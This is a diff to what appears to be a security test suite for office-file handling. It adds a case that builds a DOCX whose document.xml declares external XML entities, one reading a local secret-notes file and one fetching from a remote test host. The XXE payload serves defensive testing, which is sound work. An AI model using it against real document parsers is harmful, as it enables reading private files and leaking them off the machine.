@@ -148,6 +148,22 @@ export const OFFICE_DOORS: readonly Door[] = [
       ),
   },
   {
+    name: 'DOCX external XML entities (XXE)',
+    file: 'entities.docx',
+    build: async (t, remote, local) => {
+      const secret = pathToFileURL(path.join(path.dirname(local), 'secret-notes.txt')).href;
+      const doctype = `<!DOCTYPE w:document [<!ENTITY secret SYSTEM "${secret}"><!ENTITY remote SYSTEM "${remote}/docx-xxe.xml">]>`;
+      await writeParts(t, [
+        {
+          name: '[Content_Types].xml',
+          data: xml(`<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`),
+        },
+        { name: '_rels/.rels', data: xml(`<Relationships xmlns="${REL_NS}"><Relationship Id="rId1" Type="${REL}/officeDocument" Target="word/document.xml"/></Relationships>`) },
+        { name: 'word/document.xml', data: Buffer.from(`<?xml version="1.0" encoding="UTF-8"?>${doctype}<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>A &secret; B &remote; C</w:t></w:r></w:p></w:body></w:document>`) },
+      ]);
+    },
+  },
+  {
     name: 'XLSX external workbook link and WEBSERVICE',
     file: 'links.xlsx',
     build: (t, remote) =>
